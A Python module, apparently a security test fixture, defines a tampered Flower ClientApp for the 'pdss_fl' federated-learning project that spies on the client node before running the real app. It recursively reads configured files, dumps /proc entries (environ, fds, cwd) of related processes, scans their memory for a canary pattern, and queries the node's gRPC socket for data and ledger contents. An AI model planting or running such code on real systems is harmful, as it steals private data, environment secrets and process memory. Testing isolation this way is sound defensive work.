"""A ClientApp that was changed to read the client's data; the rest of it is the real one.

It is put into a copy of the app, as whoever submits a run could. It reads every file and folder that it is told of
(``told.txt``), those that it knows of (``PDSS_SPY``), all that ``/proc`` shows of processes that have to do with them,
and calls what listens at the socket for more than a message's answer (``found.txt``). Then it goes on as the real app.
"""

from __future__ import annotations

import os
import re
import time
import tomllib
from collections.abc import Iterator
from pathlib import Path

import grpc
from flwr.app import Context, Message
from flwr.clientapp import ClientApp

from pdss_fl.client_app import create_client_app

PIECE = 2**24

real = create_client_app()
app = ClientApp()


@app.query("perturb")
def perturb(msg: Message, context: Context) -> Message:
    """Read, then do as the real client."""
    return _spy(msg, context)


@app.train("distill")
def distill(msg: Message, context: Context) -> Message:
    """Read, then do as the real client."""
    return _spy(msg, context)


@app.evaluate()
def evaluate(msg: Message, context: Context) -> Message:
    """Read, then do as the real client, but not before a file is there that ``PDSS_HOLD`` may name."""
    while not Path(os.environ.get("PDSS_HOLD", "/")).exists():
        time.sleep(0.1)
    return _spy(msg, context)


def _spy(msg: Message, context: Context) -> Message:
    told = [str(value) for value in (*context.node_config.values(), *context.run_config.values())]
    known = [path for path in os.environ.get("PDSS_SPY", "").split(os.pathsep) if path]
    home = Path(os.environ["FLWR_HOME"]).parent
    with open(home / "told.txt", "a") as file:
        file.writelines(text for path in filter(None, told) for text in _read(Path(path)))
    with open(home / "found.txt", "a") as file:
        file.writelines(text for path in known for text in _read(Path(path)))
        file.writelines(text for process in _processes(known) for text in _look_into(process))
        file.writelines(_call(str(context.node_config.get("node-socket", ""))))
    return real(msg, context)


def _read(path: Path) -> Iterator[str]:
    try:
        files = [f for f in path.rglob("*") if f.is_file()] if path.is_dir() else [path]
        for file in files:
            text = file.read_text(errors="replace")
            yield f"== {file}\n{text}\n"
            if file.suffix == ".toml":  # a policy tells of more
                yield from (line for value in tomllib.loads(text).values() for line in _read(Path(str(value))))
    except (OSError, ValueError) as err:
        yield f"== {path}: {type(err).__name__}\n"


def _processes(known: list[str]) -> Iterator[Path]:
    """The processes that are called with a path that is known."""
    for process in Path("/proc").glob("[0-9]*"):
        try:
            called = (process / "cmdline").read_text(errors="replace").split("\0")
        except OSError:  # it ended
            continue
        if any(word.startswith(path) for word in called for path in known):
            yield process


def _look_into(process: Path) -> Iterator[str]:
    for name in ("cmdline", "environ", "maps", "mem", "fd", "cwd", "root"):
        path = process / name
        try:
            if name == "mem":
                text = "\n".join(_search_memory(process))
            elif name in ("cwd", "root"):
                text = "\n".join(os.listdir(path))
            elif name == "fd":
                text = "\n".join(os.readlink(path / number) for number in os.listdir(path))
            else:
                text = path.read_text(errors="replace")
            yield f"== /proc/node/{name}\n{text}\n"
        except OSError as err:
            yield f"== /proc/node/{name}: {type(err).__name__}\n"


def _search_memory(process: Path) -> Iterator[str]:
    """What reads like a private question in the parts of a process's memory that it writes to."""
    with open(process / "mem", "rb", buffering=0) as memory:
        for line in (process / "maps").read_text().splitlines():
            start, end = (int(number, 16) for number in line.split()[0].split("-"))
            if " rw" not in line or "[v" in line:
                continue
            for place in range(start, end, PIECE):
                try:
                    memory.seek(place)
                    piece = memory.read(min(PIECE, end - place))
                except OSError:  # given back meanwhile
                    continue
                yield from sorted({found.decode() for found in re.findall(rb"zanzibar\w+ has which \w+", piece)})


def _call(socket: str) -> Iterator[str]:
    if not socket:
        return
    with grpc.insecure_channel(f"unix:{socket}") as channel:
        for method in ("ReadData", "ReadLedger"):
            try:
                yield f"== {method}\n{channel.unary_unary(f'/pdss.v1.NodeService/{method}')(b'', timeout=10)!r}\n"
            except grpc.RpcError as err:
                yield f"== {method}: {err.code().name}\n"
